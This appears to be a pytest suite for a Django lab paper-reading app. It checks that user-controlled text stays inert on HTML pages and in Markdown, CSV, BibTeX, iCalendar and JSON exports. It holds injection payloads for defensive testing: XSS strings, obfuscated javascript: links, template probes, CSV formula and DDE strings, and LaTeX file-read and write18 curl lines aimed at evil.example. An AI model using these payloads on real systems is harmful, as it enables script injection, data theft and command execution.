"""
Hostile text is inert everywhere it is shown: one test per sink, each run with every payload.

The payloads go into every field a user or an import controls (a paper's title, abstract, authors,
keywords, area and TL;DR; sessions' titles, rooms and poster boards; the lab's name and its events;
usernames and display names; notes; meetings' place and agenda; the search box and the filters), and
each page, fragment, export and admin page that shows them is checked:

- HTML: `assert_inert` parses the page (html.parser) and finds no element with an event handler
  (on*, hx-on*), no link, form or frame to a javascript: / vbscript: / data:text/html URL, and no script
  but our own static `<script src>` tags; none of the payloads' markup is in the text as markup; and
  the hostile text is on the page as text (escaped, not dropped), where the page shows the field.
- Markdown notes are HTML by design: nh3 keeps formatting and http(s)/mailto links only, so no
  `<script`, `onerror` or `href="javascript:` survives in body_html or on any page.
- Template injection (`{{ 7*7 }}`, `{% debug %}`) is shown as typed, never evaluated.

The exports are text, each checked for what would make it run where it is opened (the decisions are in
each test's docstring): the Markdown trip report and handout write text as text and defuse the notes'
Markdown (rendered here through Python-Markdown, a viewer that passes raw HTML and any link); CSV cells
never start a spreadsheet formula; BibTeX keeps only the LaTeX commands titles use; iCalendar and the
JSON backup keep the text exactly. There are no invite messages in the app (an invite is a link without
text), so none is tested.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser

import bibtexparser
import icalendar
import markdown
import pytest
from django.conf import settings
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse

from papers import services
from papers.importers.backup import import_lab
from papers.latex import latex_to_text
from papers.models import (
    Meeting,
    MeetingPaper,
    Membership,
    Nomination,
    Note,
    Paper,
    PaperNeighbor,
    Presentation,
    ReadingStatus,
    Session,
    User,
    Vote,
)
from tests.factories import LabFactory, MembershipFactory, NoteFactory, PaperFactory, SessionFactory, UserFactory

UTC = dt.UTC

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    # Notes are Markdown rendered through nh3 (papers/rendering.py): links and raw HTML in Markdown.
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    # Template injection.
    "{{ 7*7 }}",
    "{% debug %}",
    # Titles are LaTeX shown as Unicode (papers/latex.py).
    "$\\textbf{<script>}$",
    "\\href{javascript:alert(1)}{x}",
]
PAYLOAD_IDS = [
    "script", "img-onerror", "svg-onload", "md-js-link", "a-js-href",
    "tpl-var", "tpl-debug", "latex-script", "latex-href",
]  # fmt: skip

# Markup that must never reach a page as markup (each payload's executable part).
RAW_MARKUP = [
    "<script>alert(1)",
    "<script>}",
    "<img src=x",
    "<svg onload",
    "onerror=alert(1)>",
    '<a href="javascript:',
    "href=javascript:",
]
SCRIPT_URL = re.compile(r"(?:javascript|vbscript):|data:text/html", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster", "background"}
# What an evaluated payload prints: the debug tag's context, or 7*7 standing alone (not the minute of a time
# shown on the page, "10:49", nor a part of a longer number or of a random token, such as an invite's "Ab49x").
TEMPLATE_OUTPUT = [
    re.compile(re.escape(text)) for text in ("sql_queries", "'csrf_token'", "&#x27;csrf_token&#x27;")
] + [re.compile(r"(?<![\w:])49(?!\w)")]

START = dt.datetime(2024, 5, 7, 8, 45, tzinfo=UTC)  # a Tuesday of ICLR 2024 (Vienna: 10:45)
HOUR = dt.timedelta(hours=1)
END = START + 2 * HOUR


# --- The checks ------------------------------------------------------------------------------------------


def is_script_url(value: str) -> bool:
    """As a browser reads a URL: leading controls and spaces dropped, tabs and line breaks removed."""
    url = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33))))
    return SCRIPT_URL.match(url) is not None


class Markup(HTMLParser):
    """What an HTML page holds that could run: handlers, script URLs, script elements; and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.handlers: list[tuple[str, str]] = []
        self.script_urls: list[tuple[str, str, str]] = []
        self.scripts: list[dict] = []
        self.texts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or name.startswith("hx-on"):
                self.handlers.append((tag, name))
            if name in URL_ATTRIBUTES and value and is_script_url(value):
                self.script_urls.append((tag, name, value))
        if tag == "script":
            self.scripts.append({**dict(attrs), "body": ""})
            self._in_script = True

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1]["body"] += data
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        # One text node a line: a payload counts as shown only if it is whole in one node.
        return "\n".join(self.texts)


def allowed_script(script: dict) -> bool:
    """Our own tags: a static file (or the admin's translations), with nothing inline."""
    src = script.get("src") or ""
    ours = src.startswith(settings.STATIC_URL) or src == reverse("admin:jsi18n")
    return ours and not script["body"].strip()


def assert_inert(html: str, *, shown: str | list[str] | None = None) -> Markup:
    """
    Nothing on the page can run: no handler attribute, no script URL, no script of anyone but us, no
    payload markup in the source; and each of `shown` is on the page as text (escaped, not dropped).
    """
    page = Markup()
    page.feed(html)
    page.close()
    lowered = html.lower()
    assert [raw for raw in RAW_MARKUP if raw.lower() in lowered] == []
    assert page.handlers == []
    assert page.script_urls == []
    assert [script for script in page.scripts if not allowed_script(script)] == []
    for text in [shown] if isinstance(shown, str) else shown or []:
        assert text in page.text, f"{text!r} is not shown as text"
    return page


def assert_not_evaluated(html: str, payload: str) -> None:
    """Template syntax is shown as it was typed: its output (the debug tag's context, 49) is not there."""
    if payload in ("{{ 7*7 }}", "{% debug %}"):
        page = Markup()
        page.feed(html)
        assert [out.pattern for out in TEMPLATE_OUTPUT if out.search(page.text)] == []


def content_of(response, status: int = 200) -> str:
    assert response.status_code == status, response.content[:500]
    return response.content.decode()


def title_text(payload: str) -> str:
    """A title as pages show it: its LaTeX as Unicode (papers.latex), then escaped."""
    return latex_to_text(payload)


# --- The hostile world -----------------------------------------------------------------------------------


@dataclass
class World:
    payload: str
    lab: object
    conference: object
    member: User  # logged in; their display name is the payload
    mate: User  # a lab mate whose username is the payload (from an import, or the admin)
    paper: Paper
    other: Paper  # similar to paper, presented at the same time (a clash in my agenda)
    session: Session
    event: Session  # the lab's own event
    meeting: Meeting
    note: Note  # the mate's shared note


@pytest.fixture(params=PAYLOADS, ids=PAYLOAD_IDS)
def payload(request) -> str:
    return request.param


@pytest.fixture
def world(payload, lab, owner, member, conference, paper) -> World:
    """Every field a user or an import controls holds the payload."""
    lab.name = payload
    lab.save()
    conference.name, conference.city = payload, payload
    conference.start_date, conference.end_date = dt.date(2024, 5, 7), dt.date(2024, 5, 11)
    conference.save()
    member.first_name = payload
    member.save()
    mate = UserFactory(username=payload)
    MembershipFactory(lab=lab, user=mate)

    for field in ("title", "abstract", "primary_area", "tldr", "venue"):
        setattr(paper, field, payload)
    paper.authors, paper.keywords = [payload, "Ada Lovelace"], [payload, "vision"]
    paper.save()
    other = PaperFactory(conference=conference, forum_id="otherPaper", title=f"{payload} (the other one)")

    session = SessionFactory(conference=conference, title=payload, room=payload, starts_at=START, ends_at=END)
    Presentation.objects.create(paper=paper, session=session, poster_position=payload[:50])
    orals = SessionFactory(conference=conference, kind=Session.Kind.ORAL, title=f"Orals {payload}", room=payload,
                           starts_at=START, ends_at=END)  # fmt: skip
    Presentation.objects.create(paper=other, session=orals)
    event = Session.objects.create(conference=conference, lab=lab, kind=Session.Kind.SOCIAL, title=payload,
                                   room=payload, created_by=mate, starts_at=END, ends_at=END + HOUR)  # fmt: skip

    for kept in (paper, other):
        ReadingStatus.objects.create(user=member, paper=kept, state="shortlisted", starred=True)
    ReadingStatus.objects.create(user=mate, paper=paper, state="read", starred=True)
    NoteFactory(paper=paper, author=member, lab=lab, kind=Note.Kind.SUMMARY, body=payload)
    NoteFactory(paper=paper, author=member, lab=None, kind=Note.Kind.TODO, body=payload)
    note = NoteFactory(paper=paper, author=mate, lab=lab, kind=Note.Kind.NOTE, body=payload)

    PaperNeighbor.objects.create(paper=paper, neighbor=other, score=0.9, rank=1)
    PaperNeighbor.objects.create(paper=other, neighbor=paper, score=0.9, rank=1)
    Nomination.objects.create(lab=lab, paper=other, nominated_by=mate)
    Vote.objects.create(lab=lab, paper=paper, user=mate)
    meeting = Meeting.objects.create(lab=lab, created_by=member, starts_at=dt.datetime(2030, 6, 3, 14, tzinfo=UTC),
                                     place=payload, agenda=payload)  # fmt: skip
    MeetingPaper.objects.create(meeting=meeting, paper=paper, presenter=mate, discussion_lead=member)
    return World(payload, lab, conference, member, mate, paper, other, session, event, meeting, note)


@pytest.fixture
def client_of(world, client) -> Client:
    client.force_login(world.member)
    return client


def conf_url(name: str, world: World, *args) -> str:
    return reverse(name, args=[world.lab.slug, world.conference.slug, *args])


def paper_url(world: World, name: str = "paper_detail", paper: Paper | None = None) -> str:
    return conf_url(name, world, (paper or world.paper).forum_id)


HTMX = {"HTTP_HX_REQUEST": "true"}


# --- Notes: Markdown through nh3 ---------------------------------------------------------------------


def test_a_markdown_note_keeps_no_script_handler_or_script_link(world):
    for html in (world.note.body_html, world.note.body_inline_html):
        assert_inert(html)
        assert "<script" not in html.lower()
        assert "onerror" not in html.lower()
        assert "onload" not in html.lower()
        assert 'href="javascript:' not in html.lower()


# --- Pages --------------------------------------------------------------------------------------------


def test_paper_list_page_and_its_results_fragment(world, client_of, payload):
    url = conf_url("paper_list", world)
    # The rows (title, authors, sessions, my one-liner, the lab's signals), then the filters echoed: the
    # search box, the chips and an invalid value's error message.
    filtered = {"q": payload, "keyword": payload, "area": payload, "session": world.session.pk, "tier": payload}
    chips = [f"Search: {payload}", f"Keyword: {payload}", f"Area: {payload}", f"Session: {payload} · Tue 7 May"]
    chips.append(f"Tier: Select a valid choice. {payload} is not one of the available choices. (ignored)")
    for params, shown in (({}, [title_text(payload), f"{payload}, Ada Lovelace"]), (filtered, chips)):
        for headers in ({}, HTMX):
            html = content_of(client_of.get(url, params, **headers))
            assert_inert(html, shown=shown)
            assert_not_evaluated(html, payload)


def test_inbox_card_page_and_fragment(world, client_of, payload):
    url = conf_url("triage", world)
    for headers in ({}, HTMX):
        html = content_of(client_of.get(url, {"state": "", "at": world.paper.forum_id}, **headers))
        page = assert_inert(html, shown=[title_text(payload), payload, f"{payload}, Ada Lovelace"])
        assert_not_evaluated(html, payload)
        assert 'id="inbox-card"' in html and world.paper.forum_id in html
        assert title_text(payload) in page.text
    # No paper matches: "No paper in <conference> matches <the filters>".
    html = content_of(client_of.get(url, {"q": payload, "tier": "spotlight"}))
    assert_inert(html, shown=f"Search: {payload}")


def test_paper_page_with_similar_papers_notes_and_the_lab_view(world, client_of, payload):
    html = content_of(client_of.get(paper_url(world)))
    page = assert_inert(html, shown=[title_text(payload), payload])
    assert_not_evaluated(html, payload)
    assert 'id="similar-title"' in html  # the Similar papers section is there, with "Like …, which you kept"
    assert latex_to_text(f"{payload} (the other one)") in page.text
    assert html.count('class="note__body"') == 3
    # The parts htmx asks for: the note list and the lab's view.
    for target in ("paper-note-list", "paper-lab-view"):
        html = content_of(client_of.get(paper_url(world), HTTP_HX_REQUEST="true", HTTP_HX_TARGET=target))
        assert_inert(html, shown=payload)


def test_dashboard(world, client_of, payload):
    html = content_of(client_of.get(conf_url("dashboard", world)))
    assert_inert(html, shown=[payload, title_text(payload)])
    assert_not_evaluated(html, payload)
    assert 'class="dash-event__excerpt"' in html  # the mate's note in the activity
    html = content_of(client_of.get(conf_url("dashboard", world), **HTMX))
    assert_inert(html, shown=payload)


def test_schedule_my_agenda_and_the_lab_events(world, client_of, payload):
    url = conf_url("schedule", world)
    for params in ({}, {"mine": "1"}, {"lab": "1"}, {"kind": payload}):
        html = content_of(client_of.get(url, params))
        assert_inert(html, shown=payload)
        assert_not_evaluated(html, payload)
    agenda = assert_inert(content_of(client_of.get(url, {"mine": "1"})))
    assert latex_to_text(world.other.title) in agenda.text  # in "Clashes with …"
    # The event's own page (its maker's or an owner's), and one added through the form (its "Added …" message).
    owner = Client()
    owner.force_login(world.lab.memberships.get(role=Membership.Role.OWNER).user)
    assert_inert(content_of(owner.get(conf_url("event_edit", world, world.event.pk))), shown=payload)
    data = {
        "title": payload,
        "kind": "social",
        "day": "2024-05-08",
        "starts": "19:00",
        "ends": "22:00",
        "room": payload,
    }
    html = content_of(client_of.post(conf_url("event_add", world), data, follow=True))
    assert_inert(html, shown=payload)
    assert Session.objects.filter(lab=world.lab, title=payload, room=payload).count() == 2


def test_reading_group_candidates_and_search(world, client_of, payload):
    url = reverse("meetings", args=[world.lab.slug])
    html = content_of(client_of.get(url))
    assert_inert(html, shown=[title_text(payload), f"nominated by {payload}"])
    assert_not_evaluated(html, payload)
    # The title search, found or not: "Papers matching “…”", "No paper's title contains “…”".
    for query in (payload, f"{payload} nothing like it"):
        html = content_of(client_of.get(url, {"q": query}))
        assert_inert(html, shown=f"“{query}”")


def test_meeting_page_and_its_form(world, client_of, payload):
    url = reverse("meeting_detail", args=[world.lab.slug, world.meeting.pk])
    html = content_of(client_of.get(url))
    assert_inert(html, shown=[payload, title_text(payload)])
    assert_not_evaluated(html, payload)
    assert 'class="prose"' in html  # the agenda and the notes, as sanitised Markdown
    html = content_of(client_of.get(reverse("meeting_edit", args=[world.lab.slug, world.meeting.pk])))
    assert_inert(html, shown=title_text(payload))


def test_lab_page_home_and_the_lab_switcher_fragment(world, client_of, payload):
    for url in (
        reverse("home"),
        reverse("lab_detail", args=[world.lab.slug]),
        reverse("lab_import", args=[world.lab.slug]),
        conf_url("split", world),
        conf_url("calendar_feeds", world),
    ):
        html = content_of(client_of.get(url))
        assert_inert(html, shown=payload)
        assert_not_evaluated(html, payload)
    html = content_of(client_of.get(reverse("lab_switcher"), **HTMX))
    assert_inert(html, shown=payload)


def test_messages_naming_a_lab_or_a_member(world, client_of, payload):
    """The flash messages after an action ("“…” is ready", "… is now an owner.") show the names as text."""
    html = content_of(client_of.post(reverse("lab_new"), {"name": payload}, follow=True))
    assert_inert(html, shown=f"“{payload}” is ready. Invite your teammates with a link below.")
    owner = Client()
    owner.force_login(world.lab.memberships.get(role=Membership.Role.OWNER).user)
    url = reverse("member_role", args=[world.lab.slug, world.mate.pk])
    html = content_of(owner.post(url, {"role": "owner"}, follow=True))
    assert_inert(html, shown=f"{payload} is now an owner.")


def test_invite_page_an_outsider_sees(world, owner, payload):
    invite = services.create_invite(lab=world.lab, by=owner)
    visitor = Client()
    visitor.force_login(UserFactory(username="newcomer"))
    assert_inert(content_of(visitor.get(reverse("join", args=[invite.token]))), shown=payload)


def test_fragments_returned_by_star_state_note_and_triage_posts(world, client_of, payload):
    star = client_of.post(paper_url(world, "paper_star"), {"starred": "0"}, **HTMX)
    assert_inert(content_of(star), shown=f"Starred by {payload}")
    state = client_of.post(paper_url(world, "paper_state"), {"state": "read"}, **HTMX)
    assert_inert(content_of(state), shown=payload)
    assert ReadingStatus.objects.get(user=world.member, paper=world.paper).state == "read"
    data = {"kind": "question", "body": payload, "visibility": "lab"}
    note = client_of.post(paper_url(world, "note_add"), data, **HTMX)
    assert_inert(content_of(note), shown=payload)
    added = Note.objects.get(author=world.member, kind="question")
    assert added.body == payload
    assert_inert(added.body_html)
    for headers in (HTMX, {}):  # the editor in place, and its own page without JavaScript
        edit = client_of.get(conf_url("note_edit", world, world.paper.forum_id, added.pk), **headers)
        assert_inert(content_of(edit), shown=payload)
    data = {"paper": world.paper.forum_id, "action": "skip"}
    decided = client_of.post(f"{conf_url('triage_decide', world)}?state=", data, **HTMX)
    assert_inert(content_of(decided), shown=f"Skipped: “{title_text(payload)}”.")


# --- Exports ---------------------------------------------------------------------------------------------


def rendered_markdown(text: str) -> str:
    """The export as a Markdown viewer shows it: Python-Markdown, which passes raw HTML and any link on."""
    return markdown.markdown(text)


def test_trip_report_markdown_shows_hostile_text_as_text(world, client_of, payload):
    """
    A Markdown viewer renders raw HTML and follows links, so the trip report writes what is text (titles,
    names, sessions, rooms, the lab's events) as text: `<` as `&lt;`, `[ ] \\` after a backslash. Notes
    keep their Markdown (emphasis, http links) but not raw HTML (`<` as `&lt;`), and a javascript: or
    vbscript: link has its colon encoded (`javascript%3A…`: a relative link that runs nothing).
    """
    for params in ({}, {"who": "lab"}):
        text = content_of(client_of.get(conf_url("export", world, "md"), params))
        assert "<" not in text
        assert_inert(rendered_markdown(text), shown=title_text(payload))


def test_meeting_handout_markdown_shows_hostile_text_as_text(world, client_of, payload):
    """The handout, like the trip report: text written as text, the agenda's and the notes' Markdown defused."""
    text = content_of(client_of.get(reverse("meeting_handout", args=[world.lab.slug, world.meeting.pk])))
    assert "<" not in text
    assert_inert(rendered_markdown(text), shown=[payload, title_text(payload)])


LINK_TRICKS = [
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a](vbscript:msgbox(1))",
    "**bold** <b onmouseover=alert(1)>x</b>",
]


@pytest.mark.parametrize("body", LINK_TRICKS)
def test_markdown_exports_defuse_script_links_however_a_note_spells_them(lab, member, member_client, paper, body):
    """However a note spells a script link (case, escapes, character references, <…>), it runs nothing."""
    ReadingStatus.objects.create(user=member, paper=paper, state="shortlisted", starred=True)
    NoteFactory(paper=paper, author=member, lab=lab, kind=Note.Kind.QUESTION, body=body)
    meeting = Meeting.objects.create(lab=lab, created_by=member, starts_at=START, agenda=body)
    MeetingPaper.objects.create(meeting=meeting, paper=paper)
    for url in (
        reverse("export", args=[lab.slug, paper.conference.slug, "md"]),
        reverse("meeting_handout", args=[lab.slug, meeting.pk]),
    ):
        html = rendered_markdown(content_of(member_client.get(url)))
        assert_inert(html)
        assert "javascript:" not in html.lower() and "vbscript:" not in html.lower()
    assert "<strong>bold</strong>" in html or "**" not in body  # the note's own Markdown still works


def test_csv_keeps_the_text_exactly(world, client_of, payload):
    """CSV is data, not HTML: text that cannot start a spreadsheet formula is written exactly as it is."""
    rows = list(csv.DictReader(io.StringIO(content_of(client_of.get(conf_url("export", world, "csv"))))))
    row = next(row for row in rows if row["forum_id"] == world.paper.forum_id)
    assert (row["title"], row["abstract"], row["primary_area"], row["my_one_liner"]) == (payload,) * 4
    assert row["authors"] == f"{payload}; Ada Lovelace"
    assert row["keywords"] == f"{payload}; vision"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr", "spaces", "fullwidth"])
def test_csv_cells_never_start_a_formula(conference, lab, member, member_client, formula):
    """
    A spreadsheet runs a cell that starts with = + - @ (or a tab, a carriage return, spaces before one,
    a full-width ＝): =HYPERLINK(…) can send the row (the lab's notes) away, DDE can start a program.
    Policy (OWASP's): such a cell is written after an apostrophe, which spreadsheets show as text; the
    CSV import then keeps the apostrophe. The forum id cannot start a formula (letters, digits, - and _
    only: no function to call) and is the import's key, so it is written as it is.
    """
    paper = PaperFactory(conference=conference, forum_id="formula1", title=formula, abstract=formula,
                         authors=[formula, "Ada"], keywords=[formula], primary_area=formula)  # fmt: skip
    session = SessionFactory(conference=conference, title=formula, starts_at=START, ends_at=END)
    Presentation.objects.create(paper=paper, session=session)
    ReadingStatus.objects.create(user=member, paper=paper, state="shortlisted", starred=True)
    NoteFactory(paper=paper, author=member, lab=lab, kind=Note.Kind.SUMMARY, body=f"{formula} one-liner")

    text = content_of(member_client.get(reverse("export", args=[lab.slug, conference.slug, "csv"])))
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    formula_start = tuple("=+-@＝＋－＠")
    starts_formula = [
        name for name, value in row.items() if value.lstrip().startswith(formula_start) or value[:1] in ("\t", "\r")
    ]
    assert starts_formula == []
    assert (row["title"], row["abstract"], row["primary_area"]) == (f"'{formula}",) * 3
    assert (row["authors"], row["keywords"]) == (f"'{formula}; Ada", f"'{formula}")
    assert row["my_one_liner"] == f"'{' '.join(formula.split())} one-liner"
    assert row["sessions"].startswith(f"'{formula}@2024-05-07 10:45-12:45")


LATEX_PAYLOADS = [
    *PAYLOADS,
    "\\input{/etc/passwd}",
    "\\immediate\\write18{curl evil.example}",
    "^^5cinput{/etc/passwd}",
    "\\csname input\\endcsname{/etc/passwd}",
    "$\\input{/etc/passwd}$ math",
]


@pytest.mark.parametrize("hostile", LATEX_PAYLOADS)
def test_bibtex_runs_no_latex_command_of_a_title(conference, lab, member, member_client, hostile):
    """
    BibTeX is LaTeX source that a reader compiles into their own paper: a title or an author name must
    not make it read a file (\\input), run a program (\\write18) or make a link (\\href{javascript:…}).
    The commands titles really use (math fonts, Greek, text styles) are kept; any other loses its
    backslash (`\\href{…}` is printed as `href…`), and TeX's `^^5c` spelling of a backslash is split.
    HTML in a title is plain text to LaTeX, and is kept as written.
    """
    PaperFactory(conference=conference, forum_id="latex1", title=f"{hostile} and $\\mathcal{{B}}$-Coder",
                 authors=[hostile, "Ada Lovelace"])  # fmt: skip
    text = content_of(member_client.get(reverse("export", args=[lab.slug, conference.slug, "bib"])))
    assert set(re.findall(r"\\([A-Za-z]+)", text)) <= {"mathcal", "textbf"}
    assert "^^" not in text
    [entry] = bibtexparser.parse_string(text).entries
    assert entry["title"].endswith(" and $\\mathcal{B}$-Coder}")
    for word in re.findall(r"[A-Za-z]{4,}", hostile):  # the letters stay, readable
        assert word in entry["title"]


CRLF = "Dinner\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT"


@pytest.mark.parametrize("hostile", [*PAYLOADS, CRLF])
def test_icalendar_holds_the_text_as_text(lab, member, member_client, conference, paper, hostile):
    """
    iCalendar text is plain text (RFC 5545): calendar apps show SUMMARY, LOCATION and DESCRIPTION as
    text, so the text is kept exactly; icalendar escapes what the format needs (newlines, ; , \\), so
    no text can add a property or an event.
    """
    paper.title, paper.abstract = hostile, hostile
    paper.save()
    session = SessionFactory(conference=conference, title=hostile, room=hostile, starts_at=START, ends_at=END)
    Presentation.objects.create(paper=paper, session=session, poster_position="#1")
    ReadingStatus.objects.create(user=member, paper=paper, state="shortlisted", starred=True)
    NoteFactory(paper=paper, author=member, lab=lab, kind=Note.Kind.SUMMARY, body=hostile)
    Session.objects.create(conference=conference, lab=lab, kind="social", title=hostile, room=hostile,
                           starts_at=END, ends_at=END + dt.timedelta(hours=1))  # fmt: skip
    meeting = Meeting.objects.create(lab=lab, created_by=member, starts_at=START, place=hostile, agenda=hostile)
    MeetingPaper.objects.create(meeting=meeting, paper=paper, presenter=member)

    agenda = content_of(member_client.get(reverse("export", args=[lab.slug, conference.slug, "ics"])))
    events = icalendar.Calendar.from_ical(agenda).walk("VEVENT")
    text = " ".join(hostile.split())
    kept = hostile.replace("\r\n", "\n")  # a line break is one, however it was typed
    assert sorted(str(event["SUMMARY"]) for event in events) == sorted([f"★ {latex_to_text(kept)}", kept])
    assert [str(event["LOCATION"]) for event in events if str(event["SUMMARY"]) == kept] == [kept]
    assert [str(e["DESCRIPTION"]).splitlines()[0] for e in events if str(e["SUMMARY"]).startswith("★")] == [text]
    meeting_ics = content_of(member_client.get(reverse("meeting_ics", args=[lab.slug, meeting.pk])))
    [event] = icalendar.Calendar.from_ical(meeting_ics).walk("VEVENT")
    assert str(event["LOCATION"]) == kept
    for calendar in (agenda, meeting_ics):
        assert not re.search(r"^SUMMARY:injected", calendar, re.MULTILINE)
        lines = calendar.split("\r\n")
        assert lines.count("BEGIN:VEVENT") == len(icalendar.Calendar.from_ical(calendar).walk("VEVENT"))


def empty_the_database() -> None:
    """As if the backup went to a new instance (inside the test's transaction)."""
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
    call_command("flush", interactive=False)


def test_json_backup_is_a_download_and_round_trips_the_text_exactly(world, client_of, payload):
    """
    The backup is JSON, downloaded (attachment, application/json, nosniff): a browser never renders it
    as a page. Re-imported into a new instance, every text comes back exactly as it was. (Usernames are
    the exception: the import takes only valid ones, so the hostile mate gets a plain name first.)
    """
    world.mate.username = "mate"
    world.mate.save()
    response = client_of.get(reverse("lab_export", args=[world.lab.slug]))
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    data = response.content
    assert json.loads(data)["notes"]

    def texts() -> dict:
        paper = Paper.objects.get(forum_id=world.paper.forum_id)
        return {
            "paper": [getattr(paper, field) for field in ("title", "abstract", "primary_area", "tldr", "venue")],
            "lists": [paper.authors, paper.keywords],
            "notes": sorted(Note.objects.filter(paper=paper).values_list("author__username", "kind", "body")),
            "events": list(Session.objects.filter(lab__isnull=False).values_list("title", "room")),
            "users": sorted(User.objects.filter(memberships__isnull=False).values_list("username", flat=True)),
        }

    before = texts()
    assert before["paper"][0] == payload and ("mate", "note", payload) in before["notes"]
    empty_the_database()
    owner = UserFactory(username="max")
    restored = LabFactory(name="Restored", slug="restored")
    MembershipFactory(lab=restored, user=owner, role=Membership.Role.OWNER)
    import_lab(data, lab=restored, private_notes_only_of="max")
    assert texts() == before


# --- The admin ------------------------------------------------------------------------------------------


@pytest.fixture
def superuser_client(world) -> Client:
    admin = Client()
    admin.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    return admin


def test_admin_change_lists_and_change_forms(world, superuser_client, payload):
    objects = {
        "paper": (world.paper, [payload]),
        "note": (world.note, [payload]),
        "lab": (world.lab, [payload]),
        "session": (world.session, [payload]),
    }
    for model, (obj, shown) in objects.items():
        changelist = content_of(superuser_client.get(reverse(f"admin:papers_{model}_changelist")))
        assert_inert(changelist, shown=shown)
        assert_not_evaluated(changelist, payload)
        change = content_of(superuser_client.get(reverse(f"admin:papers_{model}_change", args=[obj.pk])))
        assert_inert(change, shown=shown)
        assert_not_evaluated(change, payload)
